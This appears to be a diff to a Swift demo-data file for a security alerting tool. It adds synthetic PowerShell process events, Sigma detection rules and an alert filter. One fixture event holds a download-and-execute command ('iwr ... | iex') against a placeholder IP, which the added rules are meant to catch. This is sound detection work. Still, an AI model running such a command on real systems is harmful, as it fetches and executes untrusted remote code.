@@ -48,8 +48,14 @@ enum DemoEvents {
                 "host.os.name": "Windows 11", "host.os.family": "windows",
                 "agent.id": "s1-agent-\(index + 1)", "event.module": "sentinel_one",
                 "user.name": "CORP\\\(users[index])",
+                // WS-06 downloads and runs a script; the others run the
+                // inventory script, whose matches the demo's alert filter
+                // suppresses.
                 "process": ["name": "powershell.exe",
-                            "command_line": "powershell.exe -NoProfile -Command Get-Date"],
+                            "command_line": index == 5
+                                ? "powershell.exe -NoProfile -Command "
+                                    + "\"iwr http://203.0.113.80/a.ps1 | iex\""
+                                : "powershell.exe -NoProfile -Command Get-Date"],
                 "event.category": ["process"], "event.type": ["start"],
             ])
         }
@@ -107,4 +113,51 @@ enum DemoEvents {
         lines.append(#"{"@timestamp": "2024-05-01T09:10:00Z", "host": {"name": "broken""#)
         return lines
     }
+}
+
+/// The demo's Sigma rules and alert filter, written for its events (ECS
+/// field names): the same medium rule level gives an alert on the rated
+/// domain controller a higher urgency than one on an unrated workstation.
+enum DemoRules {
+    static let files: [(name: String, text: String)] = [
+        ("rules/failed-logon.yml", """
+            title: Failed logon
+            id: demo-failed-logon
+            status: experimental
+            description: A logon failed; many from one source is a password spray.
+            taxonomy: ecs
+            level: medium
+            logsource:
+                category: authentication
+            detection:
+                selection:
+                    event.code: 4625
+                    event.outcome: failure
+                condition: selection
+            """),
+        ("rules/powershell-command.yml", """
+            title: PowerShell runs an inline command
+            id: demo-powershell-command
+            status: experimental
+            taxonomy: ecs
+            level: medium
+            logsource:
+                category: process_creation
+            detection:
+                selection:
+                    process.name: powershell.exe
+                    process.command_line|contains: ' -Command '
+                condition: selection
+            """),
+        ("filters/inventory-script.yml", """
+            title: The inventory script is expected
+            id: demo-filter-inventory-script
+            description: IT's inventory job runs Get-Date on every workstation.
+            filter:
+                rules: [demo-powershell-command]
+                selection:
+                    process.command_line|endswith: ' -Command Get-Date'
+                condition: selection
+            """),
+    ]
 }
